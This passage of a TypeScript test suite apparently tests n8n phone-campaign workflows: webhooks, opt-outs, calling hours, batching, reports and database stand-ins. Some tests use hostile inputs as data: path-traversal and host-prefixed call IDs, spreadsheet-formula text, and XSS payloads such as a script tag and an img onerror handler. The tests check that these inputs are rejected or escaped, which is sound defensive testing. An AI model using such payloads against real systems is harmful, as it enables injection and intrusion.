		const url = webhookUrl(bench, CALLBACK);
		await webhookListens(() => postJson(url, {}));

		const named = [
			`http://${host}/webhook-waiting/1`,
			`//${host}/webhook-waiting/1?signature=a`,
			`@${host}/webhook-waiting/1`,
			`.${host}/webhook-waiting/1`,
			'../rest/settings',
			'1/../../rest/settings',
			'1?signature=a/../../../rest/settings',
			'',
			{ a: 1 },
		];
		for (const [n, external_call_id] of named.entries()) {
			expect(
				(
					await postJson(
						url,
						{ call_id: `c-${n}`, external_call_id },
						{ 'X-Callback-Secret': SECRET },
					)
				).status,
			).toBe(200);
		}
		const executions = await bench.ended(workflow, named.length);
		elsewhere.close();
		expect(asked).toEqual([]);
		expect(
			executions.map(({ status, data }) => [status, Object.keys(data.resultData.runData)]),
		).toEqual(named.map(() => ['success', ['A call has ended', 'Somebody waits for it']]));
		await client.deactivate(workflow);
	});
});

describe('campaign-larger-than-one-machine.workflow.json', () => {
	it('writes no cell that a spreadsheet would take for a formula', async () => {
		const workflow = await importExample(bench, 'campaign-larger-than-one-machine.workflow.json');
		const lines = hostileTexts.map((text, n) => ({
			json: {
				campaign: text,
				name: text,
				phone: contacts(20)[n]!.phone,
				status: 'failed',
				reason: text,
			},
		}));
		// In place of the table.
		const nodes = workflow.nodes.map(({ id, name, position, ...node }) =>
			name === 'Results'
				? {
						id,
						name,
						position,
						type: 'n8n-nodes-base.code',
						typeVersion: 2,
						parameters: { jsCode: `return ${JSON.stringify(lines)};` },
					}
				: { id, name, position, ...node },
		);
		const filled = await bench.stage.client.createWorkflow({ ...workflow, nodes });
		succeeded(await bench.stage.client.runAndWait(filled, 'See results'));
		const file = path.join(bench.stage.filesFolder, 'campaign-results.csv');
		expect(await formulasIn(file)).toEqual([]);
		expect((await resultsIn(file)).map(({ phone }) => phone)).toEqual(
			lines.map(({ json }) => json.phone),
		);
	});
});

describe('follow-the-sun.workflow.json', () => {
	afterEach(async () => {
		await resetClock();
		await (await bench.stage.client.findDataTable('follow_the_sun_outcomes'))?.remove();
	});

	const person = (name: string, phone: string, amount: string, more: object = {}) => ({
		...{ name, phone, country: '', amount, time_zone: '', opted_out: 'no' },
		...more,
	});
	const people = [
		person('Toshi', '+819012340001', '1'),
		person('Berta', '0176 12340001', '2', { country: 'Germany' }),
		person('Norman', '(212) 555-0101', '3', { country: 'US' }),
		person('Bernd, who is in Japan', '+4917612340002', '4', { time_zone: 'Asia/Tokyo' }),
		person('Olga, who opted out', '+819012340002', '5', { opted_out: 'STOP' }),
	];

	const imported = async (name: string, mode: 'live' | 'dryRun') => {
		const table = await bench.stage.client.createDataTable(name, people);
		const workflow = await importExample(bench, 'follow-the-sun.workflow.json', {
			changes: { 'Read contacts': chosen(table), 'How they went': { pollInterval: 1 } },
		});
		const saved =
			mode === 'live'
				? await rehearsed(bench, workflow, 'Call contacts', 'Every half hour')
				: workflow;
		return {
			table,
			run: async () => succeeded(await bench.stage.client.runAndWait(saved, 'Every half hour')),
		};
	};

	it('calls each person once, in the first run that finds it daytime on a weekday where they are', async () => {
		const { table, run } = await imported('follow the sun', 'live');
		const called: Array<[string, string[], string[]]> = [];
		const runTwice = async (weekday: number, time: string) => {
			await setClock(weekday, time);
			const [first, second] = [await run(), await run()];
			const names = (execution: Execution, node: string) =>
				jsonOf(execution, node).map(({ name }) => (name as string).split(',')[0]!);
			expect(jsonOf(second, 'Write outcomes')).toEqual([]);
			expect(names(second, 'Later')).toEqual(names(first, 'Later'));
			expect(names(first, 'To look at')).toEqual(['Olga']);
			called.push([time, names(first, 'Write outcomes'), names(first, 'Later')]);
		};
		await runTwice(SUNDAY, '10:00:00');
		await runTwice(MONDAY, '02:00:00');
		await runTwice(MONDAY, '10:00:00');
		await table.insert([person('Clara', '+4917612340003', '5')]);
		await runTwice(MONDAY, '15:00:00');
		expect(called).toEqual([
			['10:00:00', [], ['Toshi', 'Berta', 'Norman', 'Bernd']],
			['02:00:00', ['Toshi', 'Bernd'], ['Berta', 'Norman']],
			['10:00:00', ['Berta'], ['Norman']],
			// In Japan it is midnight: the memory is asked only about people who may be called.
			['15:00:00', ['Norman', 'Clara'], ['Toshi', 'Bernd']],
		]);
		expect(bench.dialed).toEqual([
			'+819012340001',
			'+4917612340002',
			'+4917612340001',
			'+12125550101',
			'+4917612340003',
		]);
		const outcomes = (await (await bench.stage.client.findDataTable(
			'follow_the_sun_outcomes',
		))!.rows()) as Array<Record<string, unknown>>;
		expect(outcomes.map(({ phone, called, reached }) => [phone, called, reached])).toEqual(
			bench.dialed.map((phone) => [phone, 'yes', 'yes']),
		);
	});

	it('as it is imported, calls nobody and says from when the others may be called', async () => {
		const { run } = await imported('follow the sun, rehearsed', 'dryRun');
		await setClock(MONDAY, '15:00:00');
		const execution = await run();
		expect(jsonOf(execution, 'To look at')).toMatchObject([
			...['Berta', 'Norman'].map((name) => ({ name, status: 'dry_run' })),
			{ name: 'Olga, who opted out', status: 'do_not_call' },
		]);
		expect(
			jsonOf(execution, 'Later').map(({ name, callable_at }) => [
				name,
				(callable_at as string).slice(11),
			]),
		).toEqual([
			['Toshi', '09:00:00+09:00'],
			['Bernd, who is in Japan', '09:00:00+09:00'],
		]);
		expect(bench.sandbox.requests).toEqual([]);
	});
});

describe('remember-opt-outs.workflow.json', () => {
	const SECRET = 'secret_of_the_opt_outs_31';
	const CALLBACK = 'b6a4a2a4-0f5c-4d63-9a0e-3c1f5d7e9a05/callback';
	const rows = contacts(3).map((row) => ({ ...row, amount: String(row.amount) }));

	it('as it is imported, calls nobody, and makes the table', async () => {
		const table = await bench.stage.client.createDataTable('people, rehearsed', rows);
		const workflow = await importExample(bench, 'remember-opt-outs.workflow.json', {
			changes: { 'Read contacts': chosen(table) },
		});
		const execution = succeeded(await bench.stage.client.runAndWait(workflow, 'Start campaign'));
		expect(jsonOf(execution, 'Not called').map(({ name, status }) => [name, status])).toEqual(
			rows.map(({ name }) => [name, 'dry_run']),
		);
		expect(bench.sandbox.requests).toEqual([]);
		expect(await (await bench.stage.client.findDataTable('opt_outs'))!.rows()).toEqual([]);
	});

	it('whoever said in a call that they want no more is not called by the next campaign', async () => {
		const { client } = bench.stage;
		const table = await client.createDataTable('people who opt out', rows);
		const credential = await credentialWithSecret(bench, SECRET);
		const workflow = await importExample(bench, 'remember-opt-outs.workflow.json', {
			credentials: [credential],
			// The next campaign calls everybody again.
			changes: {
				'Read contacts': chosen(table),
				'Call contacts': { mode: 'live', calledBefore: 'callAgain' },
			},
		});
		await client.activate(workflow);
		const url = webhookUrl(bench, CALLBACK);
		await webhookListens(() => postJson(url, {}));
		const first = succeeded(await client.runAndWait(workflow, 'Start campaign'));
		expect(jsonOf(first, 'Called').map(({ name }) => name)).toEqual(rows.map(({ name }) => name));

		const headers = { 'X-Callback-Secret': SECRET };
		const answers = ['no', 'Yes', ''];
		const callbacks = bench.sandbox.journal.map(({ externalCallId, consentId }) => ({
			call_id: `call-${consentId}`,
			metadata: { external_call_id: externalCallId },
			opted_out: answers[rows.findIndex(({ phone }) => phone === externalCallId)],
		}));
		expect(callbacks.map(({ metadata }) => metadata.external_call_id).sort()).toEqual(
			rows.map(({ phone }) => phone),
		);
		// The dashboard sends each of them twice, and two of them have no number that could be remembered.
		const nameless = [
			{ call_id: 'call-a', opted_out: true },
			{ call_id: 'call-b', opted_out: 'please stop', external_call_id: 'order-12' },
		];
		expect((await postJson(url, { ...callbacks[0], opted_out: 'yes' })).status).toBe(401);
		for (const callback of [...callbacks, ...callbacks, ...nameless])
			expect((await postJson(url, callback, headers)).status).toBe(200);
		const executions = (await bench.ended(workflow, 1 + 3 + 2)).filter(
			({ mode }) => mode === 'webhook',
		);
		expect(executions.map(({ status }) => status)).toEqual(Array(5).fill('success'));
		// They may have begun in the same moment.
		const nobodys = executions.flatMap((execution) =>
			jsonOf(execution, 'Number not known').map(({ call_id }) => call_id),
		);
		expect(nobodys.sort()).toEqual(['call-a', 'call-b']);
		expect(await (await client.findDataTable('opt_outs'))!.rows()).toMatchObject([
			{ phone: rows[1]!.phone, call_id: expect.stringMatching(/^call-\d/) },
		]);

		const next = succeeded(await client.runAndWait(workflow, 'Start campaign'));
		expect(jsonOf(next, 'Called').map(({ name }) => name)).toEqual([rows[0]!.name, rows[2]!.name]);
		expect(jsonOf(next, 'Not called')).toMatchObject([
			{ name: rows[1]!.name, status: 'do_not_call' },
		]);
		expect(bench.dialed.filter((dialed) => dialed === rows[1]!.phone)).toHaveLength(1);

		// A line that is no phone number blocks nobody, and says so; the others hold.
		const optOuts = (await client.findDataTable('opt_outs'))!;
		await optOuts.insert([{ phone: 'Person 2' }]);
		const withIt = succeeded(await client.runAndWait(workflow, 'Start campaign'));
		expect(jsonOf(withIt, 'Not called').map(({ name, status }) => [name, status])).toEqual([
			[rows[1]!.name, 'do_not_call'],
		]);
		expect((await optOuts.rows()).map(({ note }) => note)).toEqual([
			null,
			expect.stringMatching(/protects nobody/),
		]);

		// The lines are read with the countries of the step that calls. Where those are an expression, they hold all the same, and none is called no phone number.
		const byExpression = structuredClone(workflow);
		fillIn(byExpression, 'Call contacts', { countries: "={{ ['US'] }}" });
		const held = succeeded(
			await client.runAndWait(await client.updateWorkflow(byExpression), 'Start campaign'),
		);
		expect(jsonOf(held, 'Not called').map(({ name, reason }) => [name, reason])).toEqual([
			[rows[1]!.name, 'Opted out earlier in this execution, with the same number'],
		]);
		expect(jsonOf(held, 'Cannot be read').map(({ phone }) => phone)).toEqual(['Person 2']);

		// Numbers as the sheet has them, which the node can call.
		const spelled = [
			'tel:+1 212 555 0101',
			'+1 212\u2013555\u20130102',
			'+1\u00a0(212) 555-0103',
			'p:+12125550104',
		];
		for (const external_call_id of spelled)
			await postJson(
				url,
				{ call_id: external_call_id, opted_out: 'yes', external_call_id },
				headers,
			);
		await until(
			'they are remembered',
			async () => (await optOuts.rows()).length === 2 + spelled.length,
		);
		await client.deactivate(workflow);
	});

	it('remembers all who opt out at the same moment, although the table does not exist yet', async () => {
		const { client } = bench.stage;
		await (await client.findDataTable('opt_outs'))?.remove();
		const workflow = await importExample(bench, 'remember-opt-outs.workflow.json', {
			credentials: [await credentialWithSecret(bench, SECRET)],
			changes: {
				'Read contacts': chosen(await client.createDataTable('people who opt out together', rows)),
			},
		});
		await client.activate(workflow);
		const url = webhookUrl(bench, CALLBACK);
		await webhookListens(() => postJson(url, {}));
		const phones = contacts(12).map(({ phone }) => phone);
		const report = (phone: string) =>
			postJson(
				url,
				{ call_id: phone, opted_out: 'yes', external_call_id: phone },
				{ 'X-Callback-Secret': SECRET },
			);
		expect((await Promise.all(phones.map(report))).map(({ status }) => status)).toEqual(
			phones.map(() => 200),
		);
		const executions = await bench.ended(workflow, phones.length);
		expect(executions.map(({ status }) => status)).toEqual(phones.map(() => 'success'));
		expect(
			(await (await client.findDataTable('opt_outs'))!.rows()).map(({ phone }) => phone).sort(),
		).toEqual(phones);
		await client.deactivate(workflow);
	});
});

describe('campaign-in-steps.workflow.json', () => {
	const columns = [
		'called_at',
		'call_status',
		'call_reason',
		'consent_id',
		'batch_id',
		'reached',
		'conversation_id',
	];
	const empty = Object.fromEntries(columns.map((column) => [column, '']));
	const people = (count: number) =>
		contacts(count).map((row) => ({ ...row, amount: String(row.amount), ...empty }));

	async function imported(name: string, rows: ReturnType<typeof people>, mode: 'live' | 'dryRun') {
		const { client } = bench.stage;
		const table = await client.createDataTable(name, rows);
		const choice = chosen(table);
		const example = await importExample(bench, 'campaign-in-steps.workflow.json', {
			changes: {
				'People to call': choice,
				'Write round': choice,
				'Calls to look at': choice,
				'Write how they went': choice,
				'How they went': { pollInterval: 1 },
			},
		});
		const workflow =
			mode === 'live'
				? await rehearsed(bench, example, 'Call contacts', 'Start campaign')
				: example;
		return {
			workflow,
			table,
			run: async () => succeeded(await client.runAndWait(workflow, 'Start campaign')),
		};
	}
	const rounds = (execution: Execution) =>
		(execution.data.resultData.runData['Write round'] ?? []).map(
			({ data }) => data?.main?.[0]?.length,
		);

	it('writes each round of 50 before the next, and who was reached at the end', async () => {
		const rows = people(120).map((row, n) =>
			n === 4 ? { ...row, phone: '0155 501' } : n === 60 ? { ...row, phone: '+15550101000' } : row,
		);
		bench.sandbox.callErrors.set(rows[7]!.phone, 'Busy');
		const { table, run } = await imported('in steps', rows, 'live');
		const execution = await run();
		expect(rounds(execution)).toEqual([50, 50, 20]);
		const written = await table.rows();
		expect(written[0]).toMatchObject({
			call_status: 'initiated',
			reached: 'yes',
			conversation_id: expect.stringMatching(/^\d+$/),
		});
		expect(written[7]).toMatchObject({
			call_status: 'initiated',
			reached: 'no',
			call_reason: 'Busy',
			conversation_id: '',
		});
		expect(written[4]).toMatchObject({
			called_at: '',
			call_status: 'invalid',
			call_reason: expect.stringMatching(NOT_IN_THE_US),
		});
		// The number of the first row once more, in a later round.
		expect(written[60]).toMatchObject({
			called_at: expect.stringMatching(/Z$/),
			call_status: expect.stringMatching(/^(duplicate|already_called)$/),
		});
		expect(written.filter(({ reached }) => reached === 'yes').length).toBeGreaterThanOrEqual(117);
		expect(bench.dialed).toHaveLength(118);

		// Whoever could not be called is tried again, and nobody else.
		await table.update({ phone: '0155 501' }, { phone: '+15550155501' });
		expect(rounds(await run())).toEqual([1]);
		expect(bench.dialed.slice(118)).toEqual(['+15550155501']);
		expect(bench.sandbox.doubleDialed()).toEqual([]);
	});

	it('as it is imported, calls nobody, and leaves everybody to be called', async () => {
		const { table, run } = await imported('in steps, rehearsed', people(60), 'dryRun');
		expect(rounds(await run())).toEqual([50, 10]);
		expect(rounds(await run())).toEqual([50, 10]);
		expect(
			(await table.rows()).map(({ called_at, call_status }) => [called_at, call_status]),
		).toEqual(Array(60).fill(['', 'dry_run']));
		expect(bench.sandbox.requests).toEqual([]);
	});

	it('says of somebody who is called once more how the new call went, not the old one', async () => {
		const rows = people(2);
		bench.sandbox.callErrors.set(rows[1]!.phone, 'Busy');
		const { workflow, table, run } = await imported('in steps, once more', rows, 'live');
		await run();
		expect((await table.rows()).map(({ reached }) => reached)).toEqual(['yes', 'no']);

		bench.sandbox.callErrors.clear();
		await table.update({ phone: rows[1]!.phone }, { called_at: '' });
		Object.assign(workflow.nodes.find(({ name }) => name === 'Call contacts')!.parameters, {
			calledBefore: 'callAgain',
		});
		await bench.stage.client.updateWorkflow(workflow);
		await run();
		expect(bench.dialed).toEqual([rows[0]!.phone, rows[1]!.phone, rows[1]!.phone]);
		expect((await table.rows())[1]).toMatchObject({
			reached: 'yes',
			call_reason: '',
			conversation_id: expect.stringMatching(/^\d+$/),
		});
	});

	it.each(['stopped', 'killed'])(
		'%s in the middle and started again, calls each person once, and the table has all of them',
		async (how) => {
			const { client } = bench.stage;
			const { workflow, table, run } = await imported(`in steps, ${how}`, people(170), 'live');
			bench.sandbox.settings.latencyMs = 1_000;
			const settled = async () =>
				(await table.rows()).filter(({ called_at }) => called_at !== '').length;
			const id = await client.run(workflow, 'Start campaign');
			// Its five requests have left together, and none of them is answered.
			await until('the people of the second round are called', () => bench.dialed.length >= 100);
			if (how === 'stopped') await client.stopExecution(id);
			else await bench.crash();
			const dialed = bench.dialed.length;
			expect(dialed).toBeLessThan(170);
			if (how === 'killed') await bench.startAgain();
			// What is before the round in which it ended is in the table.
			expect(await settled()).toBeGreaterThanOrEqual(50);
			expect(await settled()).toBeLessThanOrEqual(dialed);

			await run();
			expect(bench.dialed.sort()).toEqual(
				people(170)
					.map(({ phone }) => phone)
					.sort(),
			);
			const written = await table.rows();
			expect(written.filter(({ called_at }) => called_at === '')).toEqual([]);
			const statuses = new Set(written.map(({ call_status }) => call_status));
			expect([...statuses].sort()).toEqual(['already_called', 'initiated']);
			expect(
				written.filter(({ call_status }) => call_status === 'already_called').length,
			).toBeLessThanOrEqual(50);
			expect(
				written.filter(
					({ call_status, reached }) => call_status === 'initiated' && reached !== 'yes',
				),
			).toEqual([]);
			say(
				`${how} after ${dialed} of 170: ${written.filter(({ call_status }) => call_status === 'already_called').length} rows of that round are already_called`,
			);
		},
	);
});

describe('campaign-report.workflow.json', () => {
	const called = (hour: number, reached: string, more: object = {}) => ({
		...{ name: 'Ada', phone: '+15550100001', city: 'Lagos', call_reason: '' },
		...{
			called_at: `2026-11-23T${String(hour).padStart(2, '0')}:30:00.000Z`,
			call_status: 'initiated',
			reached,
			...more,
		},
	});
	const notCalled = (call_status: string, call_reason: string, more: object = {}) =>
		called(9, '', { called_at: '', call_status, call_reason, ...more });
	const script = '<script>alert(1)</script>';
	const rows = [
		...Array.from({ length: 5 }, () => called(9, 'yes')),
		...Array.from({ length: 3 }, () => called(10, 'yes', { city: 'Kyoto' })),
		called(10, 'no', { call_reason: 'Busy' }),
		called(10, 'no', { call_reason: 'Busy' }),
		called(11, 'no', { call_reason: script }),
		called(11, '', { city: '' }),
		called(11, '', {
			call_status: 'unknown',
			name: script,
			city: `"><img src=x onerror=alert(1)>`,
			call_reason: '$& {{ $json.at }} ${1} `1`',
		}),
		notCalled('invalid', 'No country code', { name: "O'Hara & <b>Sons</b>" }),
		notCalled('do_not_call', ''),
		notCalled(script, ''),
		called(9, 'yes', { call_status: 'duplicate' }),
		...Array.from({ length: 30 }, (_, n) => notCalled('outside_hours', '', { city: `City ${n}` })),
	];

	async function report(name: string, people: Array<Record<string, string>>) {
		const table = await bench.stage.client.createDataTable(name, people);
		const workflow = await importExample(bench, 'campaign-report.workflow.json', {
			changes: { Rows: chosen(table) },
		});
		Object.assign(workflow.settings!, { timezone: 'Europe/Berlin' });
		const execution = succeeded(
			await bench.stage.client.runAndWait(
				await bench.stage.client.updateWorkflow(workflow),
				'See report',
			),
		);
		return {
			counts: jsonOf(execution, 'Count')[0]!,
			html: (jsonOf(execution, 'Page')[0]! as { html: string }).html,
			execution,
		};
	}

	it('counts who was called, reached and not, and why, by hour and by a column', async () => {
		const { counts, html } = await report('report', rows);
		expect(counts).toMatchObject({
			people: 46,
			called: 13,
			reached: 8,
			missed: 3,
			open: 2,
			notCalled: 33,
		});
		const lines = [...html.matchAll(/<tr><th>(.*?)<\/th>.*?<td class="number">(.*?)<\/td>/g)].map(
			([, label, number]) => [label, number],
		);
		expect(lines.slice(0, 3)).toEqual([
			['10:00', '5 of 5 reached'],
			['11:00', '3 of 5 reached'],
			['12:00', '0 of 3 reached'],
		]);
		expect(lines).toEqual(
			expect.arrayContaining([
				['Lagos', '5 of 8 reached'],
				['Kyoto', '3 of 3 reached'],
				['Busy', '2'],
				['Outside of calling hours', '30'],
				['Do not call', '1'],
			]),
		);
		// A million cities are no page.
		expect(lines.length).toBeLessThan(40);
		for (const number of [46, 8, 3, 2, 33]) expect(html).toContain(`<b>${number}</b>`);
	});

	it('holds nothing that other people could have made a part of the page, no script, and no address', async () => {
		const { html } = await report('report, hostile', rows);
		expect(html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
		expect(html).toContain('O&#39;Hara &#38; &#60;b&#62;Sons&#60;/b&#62;');
		expect(html).not.toMatch(/<script|<img|<b>Sons|https?:|\son\w+=|url\(|@import|\{\{/i);
		const tags = new Set(
			[...html.matchAll(/<\/?([a-z0-9!]+)/gi)].map(([, tag]) => tag!.toLowerCase()),
		);
		const ours = '!doctype html head meta title style body div h1 h2 p table tr td th b span'.split(
			' ',
		);
		expect([...tags].filter((tag) => !ours.includes(tag))).toEqual([]);
	});

	it('can be made of a table of which nobody was called yet', async () => {
		const { counts, html } = await report('report, early', [
			called(9, '', { called_at: '', call_status: '' }),
		]);
		expect(counts).toMatchObject({ people: 1, called: 0, reached: 0, notCalled: 1 });
		expect(html).toContain('Not called yet');
	});
});

describe('database-campaign.workflow.json', () => {
	afterEach(resetClock);
	const teardown = new Teardown();
	afterAll(() => teardown.run());
	let postgres: Postgres;
	let customers: SavedCredential;
	beforeAll(async () => {
		postgres = await startPostgres(teardown);
		const { host, query: _, ...login } = postgres;
		const data = { host, ...login, ssl: 'disable' };
		customers = await bench.stage.client.createCredential({
			name: 'Customers',
			type: 'postgres',
			data,
		});
	});

	type Customer = ReturnType<typeof contacts>[number] & { opted_out?: string; time_zone?: string };

	/** The example with a table of these rows, and the columns that its note adds. */
	async function withCustomers(
		rows: Customer[],
		{ optedOut = 'boolean', pollInterval = 1, waitTimeout = 10 } = {},
	) {
		const { client } = bench.stage;
		await postgres.query('DROP TABLE IF EXISTS customers');
		await postgres.query(
			`CREATE TABLE customers (id serial PRIMARY KEY, name text, phone text, amount numeric, opted_out ${optedOut}, time_zone text)`,
		);
		const file = await exampleWorkflow('database-campaign.workflow.json', {
			credentials: [],
			filesFolder: '',
		});
		const note = file.nodes.find(({ type }) => type === 'n8n-nodes-base.stickyNote')!.parameters
			.content as string;
		await postgres.query(/`(ALTER TABLE [^`]+)`/.exec(note)![1]!);
		const values = rows.map(
			({ name, phone, amount, opted_out = 'false', time_zone = 'Etc/UTC' }) =>
				`('${name}', '${phone}', ${amount}, '${opted_out}', '${time_zone}')`,
		);
		await postgres.query(
			`INSERT INTO customers (name, phone, amount, opted_out, time_zone) VALUES ${values.join(', ')}`,
		);
		const workflow = await importExample(bench, 'database-campaign.workflow.json', {
			credentials: [customers],
			changes: { 'How they went': { pollInterval, waitTimeout } },
		});
		return {
			workflow,
			/** Executes it, with changes of the nodes' fields first. */
			run: async (changes: Record<string, object> = {}) => {
				for (const [node, parameters] of Object.entries(changes))
					fillIn(workflow, node, parameters);
				return succeeded(
					await client.runAndWait(await client.updateWorkflow(workflow), 'Start campaign'),
				);
			},
			/** In the order of the table. */
			read: async (columns: string) =>
				(await postgres.query(`SELECT ${columns} FROM customers ORDER BY id`)).map((row) =>
					Object.values(row),
				),
		};
	}

	const live = { 'Call customers': { mode: 'live' } };
	/** By day and by night. */
	const atAnyHour = (workflow: SavedWorkflow) =>
		Object.assign(
			workflow.nodes.find(({ name }) => name === 'Call customers')!.parameters.options as object,
			{ callingHours: everyDay },
		);

	it('calls the customers of a PostgreSQL database once, and writes what became of each into its row', async () => {
		const rows = contacts(15).map((row, n) => ({
			...{ ...row, phone: n === 4 ? '0155 501' : row.phone, opted_out: `${n === 5}` },
			time_zone: n === 6 ? 'Asia/Tokyo' : 'Etc/UTC',
		}));
		bench.sandbox.callErrors.set(rows[7]!.phone, 'Busy');
		const { run, read } = await withCustomers(rows);
		const written = async () =>
			await read(
				"called_at IS NOT NULL, call_status, reached, left(coalesce(call_reason, ''), 17)",
			);
		// In Tokyo it is night.
		await setClock(MONDAY, '15:00:00');
		await run();
		expect((await written())[0]).toEqual(['f', 'dry_run', '', '']);
		expect(bench.sandbox.requests).toEqual([]);

		await run(live);
		const expected = rows.map((_row, n) => [
			't',
			'initiated',
			n === 7 ? 'f' : 't',
			n === 7 ? 'Busy' : '',
		]);
		expected[4] = ['f', 'invalid', '', 'The destination "'];
		expected[5] = ['f', 'do_not_call', '', 'Opted out'];
		expected[6] = ['f', 'outside_hours', '', expect.stringContaining('It is Tue')];
		expect(await written()).toEqual(expected);

		// As after a breakdown before the row was written; and in Tokyo the day has begun.
		await postgres.query('UPDATE customers SET called_at = NULL WHERE id = 1');
		await setClock(MONDAY, '09:30:00');
		await run();
		expect((await written())[0]!.slice(0, 2)).toEqual(['t', 'already_called']);
		expect((await written())[6]).toEqual(['t', 'initiated', 't', '']);
		expect(bench.dialed).toHaveLength(13);
		expect(bench.sandbox.doubleDialed()).toEqual([]);
	});

	/** Columns of a call that is written down. */
	const CALL = `call_status, call_record ~ '^[0-9]+$' AS record, call_batch ~ '^[0-9a-f-]{36}$' AS batch, reached, conversation_id ~ '^[0-9]+$' AS talk`;
	const open = ['initiated', 't', 't', '', ''];
	const called = ['initiated', 't', 't', 't', 't'];

	it('executed again after the wait was over, looks up the calls that were still open, and calls nobody twice', async () => {
		Object.assign(bench.sandbox.settings, { dialAfterMs: 300, finishAfterMs: 8_000 });
		const { workflow, run, read } = await withCustomers(contacts(12), { waitTimeout: 0.02 });
		atAnyHour(workflow);
		await run();
		await run(live);
		expect(await read(CALL)).toEqual(Array(12).fill(open));

		const again = await run({ 'How they went': { waitTimeout: 10 } });
		expect(await read(CALL)).toEqual(Array(12).fill(called));
		// The table alone keeps them from the node that calls.
		expect(again.data.resultData.runData['Call customers']).toBeUndefined();
		expect(bench.dialed).toHaveLength(12);
	});

	it('stopped while its calls last, has them in their rows; executed again, it says of each who was reached', async () => {
		Object.assign(bench.sandbox.settings, { dialAfterMs: 300, finishAfterMs: 8_000 });
		const { workflow, run, read } = await withCustomers(contacts(12));
		atAnyHour(workflow);
		await run();
		fillIn(workflow, 'Call customers', { mode: 'live' });
		await bench.stage.client.updateWorkflow(workflow);
		await cutShort(workflow, 'stopped', async () =>
			(await read('call_record')).every(([record]) => record !== ''),
		);
		expect(await read(CALL)).toEqual(Array(12).fill(open));
		await run();
		expect(await read(CALL)).toEqual(Array(12).fill(called));
		expect(bench.dialed).toHaveLength(12);
	});

	it.each([
		['boolean', 'true', 'false'],
		['text', 'Yes', 'no'],
	])(
		'calls nobody by another row with the number of somebody who opted out, also after they were called (opted_out: %s)',
		async (optedOut, yes, no) => {
			const [ada, bob, carl] = contacts(3).map((row, n) => ({
				...row,
				phone: `+1415555017${n}`,
				opted_out: no,
			}));
			const { workflow, run, read } = await withCustomers([ada!, bob!], { optedOut });
			atAnyHour(workflow);
			await run();
			await run(live);
			const before = await read('*');
			expect(bench.dialed).toHaveLength(2);

			// Ada opts out. Nothing but that keeps her other row from being called: the memory does not, and its number is spelled otherwise.
			await postgres.query(`UPDATE customers SET opted_out = '${yes}' WHERE id = 1`);
			await postgres.query(
				`INSERT INTO customers (name, phone, amount, opted_out) VALUES ('Ada again', '+1-415-555-0170', 1, '${no}'), ('Carl', '${carl!.phone}', 1, '${no}')`,
			);
			await run({ 'Call customers': { calledBefore: 'callAgain' } });
			expect(bench.dialed.slice(2)).toEqual([carl!.phone]);
			expect(await read('call_status, reached')).toEqual([
				['initiated', 't'],
				['initiated', 't'],
				['do_not_call', ''],
				['initiated', 't'],
			]);
			// What became of the call to her stays in her row.
			const after = await read('*');
			expect(after[0]!.toSpliced(4, 1)).toEqual(before[0]!.toSpliced(4, 1));
			expect(after[1]).toEqual(before[1]);
		},
	);

	it('reads of those who have not been called as many as the query says, and everybody who opted out', async () => {
		const [ada, bob, carl, dora] = contacts(4).map((row, n) => ({
			...row,
			phone: `+1415555018${n}`,
		}));
		const bobAgain = { ...bob!, phone: '+1-415-555-0181', opted_out: 'true' };
		const { workflow, run, read } = await withCustomers([
			{ ...ada!, opted_out: 'true' },
			bob!,
			carl!,
			dora!,
			bobAgain,
		]);
		atAnyHour(workflow);
		const query = workflow.nodes.find(({ name }) => name === 'Read customers')!.parameters
			.query as string;
		await run({ 'Read customers': { query: query.replace('LIMIT 1000', 'LIMIT 2') } });
		await run(live);
		expect(bench.dialed).toEqual([carl!.phone]);
		expect(await read('call_status')).toEqual([
			['do_not_call'],
			['do_not_call'],
			['initiated'],
			[''],
			['do_not_call'],
		]);
	});
});

describe('airtable-campaign.workflow.json', () => {
	const written = [
		'Call status',
		'Call reason',
		'Call record',
		'Call batch',
		'Reached',
		'Conversation',
	];
	const columnOf = (field: string) =>
		field === 'id' ? 'record' : field.toLowerCase().replaceAll(' ', '_');
	const fields = ['id', 'Name', 'Phone', 'Amount', 'Opted out', ...written];

	type Person = ReturnType<typeof contacts>[number] & { opted_out: string };
	const people = (count: number): Person[] =>
		contacts(count).map((row) => ({ ...row, opted_out: 'no' }));

	/** The example with a table in n8n in the place of Airtable, whose records leave empty fields out; it may call at any hour. */
	async function withRecords(
		name: string,
		rows: Person[],
		mode: 'dryRun' | 'live',
		waitTimeout = 10,
	) {
		const { client } = bench.stage;
		const empty = Object.fromEntries(written.map((field) => [columnOf(field), '']));
		const records = rows.map((row, n) => ({ record: `rec${n}`, ...row, ...empty }));
		const table = await client.createDataTable(name, records, { amount: 'number' });
		const example = await importExample(bench, 'airtable-campaign.workflow.json', {
			changes: { 'How they went': { pollInterval: 1, waitTimeout } },
		});
		Object.assign(
			example.nodes.find(({ name }) => name === 'Call people')!.parameters.options as object,
			{ callingHours: everyDay },
		);
		const read = `const fields = ${JSON.stringify(fields.map((field) => [field, columnOf(field)]))};
			return { json: Object.fromEntries(fields.map(([field, column]) => [field, $json[column]]).filter(([, value]) => !['', null, undefined].includes(value))) };`;
		const saved = await client.updateWorkflow(
			withStandIn(example, table, { type: 'n8n-nodes-base.airtable', key: 'id', columnOf, read }),
		);
		const workflow =
			mode === 'live' ? await rehearsed(bench, saved, 'Call people', 'Start campaign') : saved;
		return {
			workflow,
			table,
			/** Executes it, with a change of the calling node's fields first. */
			run: async (changes: object = {}) => {
				fillIn(workflow, 'Call people', changes);
				return succeeded(
					await client.runAndWait(await client.updateWorkflow(workflow), 'Start campaign'),
				);
			},
			records: async () =>
				(await table.rows()).map((row) =>
					Object.fromEntries(written.map((field) => [field, row[columnOf(field)]])),
				),
		};
	}

	const nothing = Object.fromEntries(written.map((field) => [field, '']));
	const toMend = {
		...nothing,
		'Call status': 'invalid',
		'Call reason': expect.stringMatching(NOT_IN_THE_US),
	};
	const open = {
		...{ ...nothing, 'Call status': 'initiated', 'Call record': expect.stringMatching(/^\d+$/) },
		'Call batch': expect.stringMatching(/^[0-9a-f-]{36}$/),
	};
	const called = { ...open, Reached: 'yes', Conversation: expect.stringMatching(/^\d+$/) };

	it('calls each person once, and writes into each record what is new', async () => {
		const rows = people(5).map((row, n) => (n === 1 ? { ...row, phone: '0155 501' } : row));
		bench.sandbox.callErrors.set(rows[3]!.phone, 'Busy');
		const { workflow, run, records } = await withRecords('records', rows, 'dryRun');
		await run();
		expect([await records(), bench.sandbox.requests]).toEqual([
			rows.map((_, n) => (n === 1 ? toMend : nothing)),
			[],
		]);

		const outcomes = rows.map((_, n) =>
